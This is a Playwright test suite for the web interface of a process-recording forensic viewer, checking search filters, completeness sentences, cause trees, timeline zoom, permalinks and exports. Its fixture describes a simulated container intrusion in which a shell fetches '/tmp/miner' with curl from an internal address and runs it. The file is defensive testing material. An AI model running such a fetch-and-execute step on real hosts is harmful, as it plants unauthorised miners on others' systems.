import assert from 'node:assert/strict';
import { after, before, test } from 'node:test';
import type { Page } from 'playwright-core';
import { textOf } from '../../support/report/browser.ts';
import { idOf } from '../../support/report/incident.ts';
import { fleet } from '../../support/serve/fleet.ts';
import { Served, waitForText } from '../../support/serve/served.ts';

let served: Served;
before(async () => {
  served = await Served.start(fleet());
});
after(async () => {
  await served.close();
  assert.deepEqual(served.misdeeds, []);
});

function commands(page: Page, tree = '#records'): Promise<readonly string[]> {
  return page.locator(`${tree} .command`).allTextContents();
}

const field = (page: Page, name: string) => page.locator(`#filters #${name}`);

test('the page states how complete the records are, and lists the first ones', async () => {
  const page = await served.open();
  assert.match(await textOf(page, '#completeness'), /^complete: \d of 3 nodes; /);
  assert.equal(await textOf(page, '#about-summary'), '624 records in 3 inputs');
  await waitForText(page, '#list-status', /^624 records$/);
  const [first = ''] = await page.locator('#records [role="treeitem"]').allTextContents();
  assert.match(first, /^bash.*predates_hook: sshd\[1\].*2026-11-23 02:16:31\.000node-1/);
});

test('a search narrows the list, the timeline and the address, and Clear shows everything', async () => {
  const page = await served.open();
  await field(page, 'pod').fill('shop/cart-*');
  await field(page, 'pod').press('Enter');
  await waitForText(page, '#list-status', /^16 records$/);
  assert.match(new URL(page.url()).hash, /^#pod=shop%2Fcart-/);
  await page.getByText('More', { exact: true }).click();
  await page.getByLabel('written in the running container').check();
  await waitForText(page, '#list-status', /^1 record$/);
  assert.deepEqual(await commands(page), ['/tmp/miner -q']);
  assert.equal(
    await textOf(page, '#command'),
    "vcml query --pod 'shop/cart-*' --upper-layer INPUT…",
  );
  await page.getByRole('button', { name: 'Clear' }).click();
  await waitForText(page, '#list-status', /^624 records$/);
  assert.equal(await page.getByLabel('written in the running container').isChecked(), false);
});

test('the command line keeps a value that is the word true', async () => {
  const page = await served.open('#exe=true&gap=true&setuid=true');
  assert.equal(await textOf(page, '#command'), 'vcml query --exe true --gap --setuid INPUT…');
});

test('the sentence says how complete the records of the selected nodes and times are', async () => {
  const page = await served.open('#node=node-2');
  const selected = /^in the nodes and times selected: complete: 1 of 1 node$/;
  await waitForText(page, '#completeness', selected);
  await field(page, 'node').fill('node-1');
  await field(page, 'node').press('Enter');
  await waitForText(page, '#completeness', /complete: 0 of 1 node; 1 with holes/);
  await page.getByRole('button', { name: 'Clear' }).click();
  await waitForText(page, '#completeness', /^complete: \d of 3 nodes; /);
});

test('the form suggests values that occur', async () => {
  const page = await served.open();
  await field(page, 'exe').pressSequentially('mine');
  await page.locator('#exe-values option').first().waitFor({ state: 'attached' });
  await page.waitForFunction(() => document.querySelectorAll('#exe-values option').length === 1);
  const option = page.locator('#exe-values option');
  assert.equal(await option.getAttribute('value'), '/tmp/miner');
  assert.equal(await option.getAttribute('label'), '/tmp/miner (1)');
});

test('a selected record shows its causes, its effects, every field and sentences', async () => {
  const page = await served.open(`#id=${idOf(6)}`);
  const details = page.locator('#details');
  await waitForText(page, '#details', /12 records directly/);
  assert.deepEqual(await details.locator('ol li').allTextContents(), [
    '02:16:31.300  sh',
    '02:16:31.200  runc init',
    'The memory ends at `shim[1]`, which was there before the recording.',
  ]);
  const fields = await details.locator('tr').allTextContents();
  for (const one of [`id${idOf(6)}`, 'timestamp1795400191950657708', 'k8s.pod.namecart-7d9f-x2x'])
    assert.ok(fields.includes(one), `${one} in ${fields.join('; ')}`);
  assert.equal(await textOf(page, '#records [aria-selected="true"] .command'), '/tmp/miner -q');
  await details.getByRole('button', { name: 'runc init' }).click();
  await waitForText(page, '#details h2', /^runc init$/);
  await page.goBack();
  await waitForText(page, '#details h2', /^\/tmp\/miner -q$/);
});

test('the tree shows a record below its causes, and loads effects when they are opened', async () => {
  const page = await served.open(`#id=${idOf(6)}`);
  await page.getByRole('link', { name: 'Tree of this record' }).click();
  await waitForText(page, '#causes', /miner/);
  const rest = ['⋯ load other effects of sh', '⋯ load other effects of runc init'];
  assert.deepEqual(await commands(page, '#causes'), ['runc init', 'sh', '/tmp/miner -q', ...rest]);
  const miner = page.locator('#causes [role="treeitem"]', { hasText: '/tmp/miner' });
  assert.equal(await miner.getAttribute('aria-level'), '3');
  assert.equal(await miner.getAttribute('aria-expanded'), 'false');
  await miner.locator('.twisty').click();
  await page.locator('#causes [aria-level="4"]').nth(11).waitFor();
  await page.getByRole('treeitem', { name: 'other effects of sh' }).click();
  await waitForText(page, '#causes', /curl -o/);
  const all = await commands(page, '#causes');
  assert.deepEqual(all.slice(0, 4), [
    'runc init',
    'sh',
    'curl -o /tmp/miner http://10.0.0.9/m',
    '/tmp/miner -q',
  ]);
  assert.equal(all.includes(rest[0] ?? ''), false);
  await page.getByRole('link', { name: 'Tree of the selection' }).click();
  await waitForText(page, '#tree-status', /beginnings$/);
  assert.ok((await commands(page, '#causes')).includes('bash'));
});

test('the tree of a selection begins with records whose causes are not in it', async () => {
  const page = await served.open('#view=tree&exe=/usr/bin/sleep');
  await waitForText(page, '#tree-status', /^12 beginnings$/);
  const [first = ''] = await page.locator('#causes [role="treeitem"]').allTextContents();
  assert.match(first, /^sleep 0\.02.*its cause is not in this selection/);
});

test('every view has an address, which opens in another browser; back and forward work', async () => {
  const page = await served.open();
  await field(page, 'user').fill('1000');
  await field(page, 'user').press('Enter');
  await waitForText(page, '#list-status', /^\d+ records$/);
  await page.getByRole('link', { name: 'What we do not know' }).click();
  await page.locator('#unknown-table td').first().waitFor();
  await page.goBack();
  await page.locator('#records').waitFor();
  assert.equal(await field(page, 'user').inputValue(), '1000');
  await page.goBack();
  await waitForText(page, '#list-status', /^624 records$/);
  assert.equal(await field(page, 'user').inputValue(), '');
  await page.goForward();
  await page.goForward();
  await page.locator('#unknown-table td').first().waitFor();
  const other = await served.open(new URL(page.url()).hash);
  await other.locator('#unknown-table td').first().waitFor();
  assert.equal(await field(other, 'user').inputValue(), '1000');
});

test('the table can show only the nodes with something unknown, in the address, too', async () => {
  const page = await served.open('#view=unknown&until=2026-11-23T03:00:00Z');
  await waitForText(page, '#unknown-status', /^3 nodes$/);
  await page.getByLabel('only nodes with something unknown').check();
  await waitForText(page, '#unknown-status', /^1 node of 3$/);
  const other = await served.open(new URL(page.url()).hash);
  await waitForText(other, '#unknown-status', /^1 node of 3$/);
  await page.goBack();
  await waitForText(page, '#unknown-status', /^3 nodes$/);
});

test('a copied link has no token', async () => {
  const permissions = ['clipboard-read', 'clipboard-write'];
  const page = await served.open('#pod=shop/cart-7d9f-x2x', { permissions });
  await page.getByRole('button', { name: 'Copy link' }).click();
  await waitForText(page, '#copied', /^Link copied$/);
  const copied = await page.evaluate(() => navigator.clipboard.readText());
  assert.ok(copied.startsWith(`${served.origin}/#pod=shop%2Fcart-7d9f-x2x`), copied);
  assert.doesNotMatch(copied, /token/);
});

test('the timeline counts, zooms in by bar and by dragging, and zooms out', async () => {
  const page = await served.open();
  const bars = page.locator('#bars button');
  await page.locator('#bars button.loss').first().waitFor();
  const label = (await bars.first().getAttribute('aria-label')) ?? '';
  assert.match(label, /: 623 records, 6 gaps, 1 loss, 298 records lost$/);
  assert.match((await bars.nth(5).getAttribute('aria-label')) ?? '', /3 of 3 nodes silent$/);
  await bars.first().hover();
  await page.mouse.down();
  await bars.nth(30).hover();
  await page.mouse.up();
  await waitForText(page, '#list-status', /^623 records$/);
  assert.match(page.url(), /since=2026-11-23T02%3A16%3A31\.000657708Z&until=/);
  await page.getByRole('button', { name: 'Zoom out' }).click();
  await waitForText(page, '#list-status', /^624 records$/);
  await bars.first().click();
  await waitForText(page, '#list-status', /^623 records$/);
  await page.getByRole('button', { name: 'Whole time' }).click();
  await waitForText(page, '#list-status', /^624 records$/);
  assert.doesNotMatch(page.url(), /since/);
});

test('what is seen can be exported, and the last line says how complete it is', async () => {
  const page = await served.open('#pod=shop/cart-7d9f-x2x');
  const downloading = page.waitForEvent('download');
  await page.getByRole('button', { name: 'Export as JSON lines' }).click();
  const stream = await (await downloading).createReadStream();
  const lines = Buffer.concat(await stream.toArray())
    .toString()
    .trimEnd()
    .split('\n');
  assert.equal(lines.length, 17);
  assert.equal(JSON.parse(lines[0] ?? '').id, idOf(4));
  assert.match(lines[16] ?? '', /^\{"vcml":\{/);
});

test('an error is shown in the server’s words, and the next search takes it away', async () => {
  const page = await served.open();
  await field(page, 'since').fill('yesterday');
  await field(page, 'since').press('Enter');
  await waitForText(page, '#problem', /"yesterday" is not a time: it must be a date such as/);
  assert.deepEqual(await commands(page), []);
  assert.equal(await page.locator('#bars button:not(.empty)').count(), 0);
  await field(page, 'since').fill('');
  await field(page, 'since').press('Enter');
  await waitForText(page, '#list-status', /^624 records$/);
  assert.equal(await textOf(page, '#problem'), '');
  assert.notDeepEqual(served.takeRefusals(), []);
});

test('an unknown record of a permalink is an error, not another record', async () => {
  const page = await served.open('#view=tree&about=ffffffff-0000-5000-8000-000000000000');
  await waitForText(page, '#problem', /no record has the id ffffffff/);
  assert.deepEqual(await commands(page, '#causes'), []);
  served.takeRefusals();
});

test('a server that does not answer is named, and can be asked again', async () => {
  const page = await served.open();
  await waitForText(page, '#list-status', /^624 records$/);
  await page.context().setOffline(true);
  await field(page, 'user').fill('1000');
  await field(page, 'user').press('Enter');
  await waitForText(page, '#problem', /vcml serve does not answer/);
  await page.context().setOffline(false);
  await page.getByRole('button', { name: 'Try again' }).click();
  await waitForText(page, '#list-status', /^\d+ records$/);
  assert.equal(await textOf(page, '#problem'), '');
  served.takeRefusals();
});
